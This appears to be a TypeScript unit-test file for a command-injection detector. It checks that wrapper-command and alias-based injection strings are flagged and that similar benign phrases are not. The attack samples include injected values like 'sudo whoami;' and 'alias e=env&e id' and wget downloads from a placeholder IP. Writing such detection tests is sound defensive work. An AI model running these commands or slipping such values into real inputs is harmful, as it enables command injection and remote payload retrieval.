import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s)).confidence;

describe('a wrapper command running another command', () => {
  const attacks = ['time nslookup', 'nohup wget -q http://203.0.113.7/a', 'sudo whoami;', 'x; env uname', 'time netstat -an', 'busybox wget http://203.0.113.7/b'];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
  const benign = ['time flies', 'time travel', 'time cat videos', 'sudo make me a sandwich', 'time tracking app', 'env variables', 'time curl'.replace('curl', 'curling')];
  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
});

describe('alias naming a command', () => {
  const attacks = ["alias ll='ls -la'", 'alias x=wget', 'alias e=env&e id', 'a; alias getme="curl -s"'];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
  const benign = ['alias a=b', 'alias name=John', 'alias: curl', 'alias of wget', 'alias = whoami'];
  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
});
